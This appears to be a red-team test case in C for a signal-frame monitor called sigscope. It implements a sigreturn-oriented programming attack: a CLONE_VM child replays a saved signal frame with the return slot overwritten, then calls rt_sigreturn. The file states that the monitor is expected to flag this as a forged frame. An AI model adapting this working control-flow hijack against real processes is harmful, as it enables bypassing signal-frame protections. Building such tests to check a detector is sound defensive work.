/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_clonevm_replay (red team round 27, idea 3): one delivery made live twice. A handler
 * creates a CLONE_VM child (a process sharing the memory, not a thread): its outstanding
 * deliveries were copied to the child as for a fork. The parent returns through the frame and
 * goes on reusing its stack. The child then puts the frame's bytes (saved in the handler) back
 * at the same address, writes the attacker's address into the slot the restored `ret` reads,
 * and returns through the frame: paired, every register and the FP area as saved.
 *
 * Why: a frame in memory two processes share is the one frame; a fork's child has its own copy
 * of it, a CLONE_VM child does not.
 *
 * Expected from sigscope: forged_frame (critical): a CLONE_VM child inherits no deliveries.
 */
#include "mal.h"

#include <sched.h>

extern void replay_stub(long tgid, long tid, long sig);
__asm__(".text\n.globl replay_stub\nreplay_stub:\n mov $234, %eax\n syscall\n ret\n");

static volatile int go;
static unsigned char saved[16384];
static uint64_t frame, slot, saved_len;
static char child_stack[65536] __attribute__((aligned(16)));

static int child(void *arg)
{
	(void)arg;
	while (!go) /* the parent has returned through the frame */
		;
	memcpy((void *)(uintptr_t)frame, saved, saved_len);
	*(uint64_t *)(uintptr_t)slot = (uint64_t)(uintptr_t)mal_pwned;
	__asm__ volatile("mov %0, %%rsp\n\tmov $15, %%eax\n\tsyscall\n\tud2"
			 :
			 : "r"(frame + 8)
			 : "memory");
	return 0;
}

static void on_usr1(int sig, siginfo_t *info, void *ucv)
{
	ucontext_t *uc = ucv;
	pid_t pid;

	(void)sig;
	(void)info;
	frame = (uint64_t)(uintptr_t)ucv - 8;
	slot = (uint64_t)uc->uc_mcontext.gregs[REG_RSP];
	saved_len = slot - frame;
	if (saved_len > sizeof(saved))
		_exit(MAL_EXIT_SETUP);
	memcpy(saved, (void *)(uintptr_t)frame, saved_len);
	pid = clone(child, child_stack + sizeof(child_stack), CLONE_VM | SIGCHLD, NULL);
	if (pid < 0)
		_exit(MAL_EXIT_SETUP);
	mal_say("attacker pid %d", (int)pid);
}

static __attribute__((noinline)) void deliver(void)
{
	replay_stub(getpid(), (long)syscall(SYS_gettid), SIGUSR1);
	__asm__ volatile("" : : : "memory");
}

static __attribute__((noinline)) void reuse(void)
{
	volatile char buf[8192];

	for (int k = 0; k < 8192; k++)
		buf[k] = (char)k;
	__asm__ volatile("" : : "r"(buf) : "memory");
}

int main(void)
{
	int status;

	mal_init("srop_clonevm_replay", 10);
	mal_handle(SIGUSR1, on_usr1, 0);
	deliver(); /* delivery, handler, return: the parent's pairing is done */
	reuse();   /* the stack below main is reused */
	go = 1;
	if (wait(&status) < 0)
		mal_die(MAL_EXIT_SETUP, "wait");
	/* The child's fate is the attack's: exit as it did (mal_pwned exits 0, a kill 137). */
	if (WIFSIGNALED(status))
		return 128 + WTERMSIG(status);
	return WEXITSTATUS(status) == MAL_EXIT_OK ? MAL_EXIT_OK : MAL_EXIT_NOTHING;
}
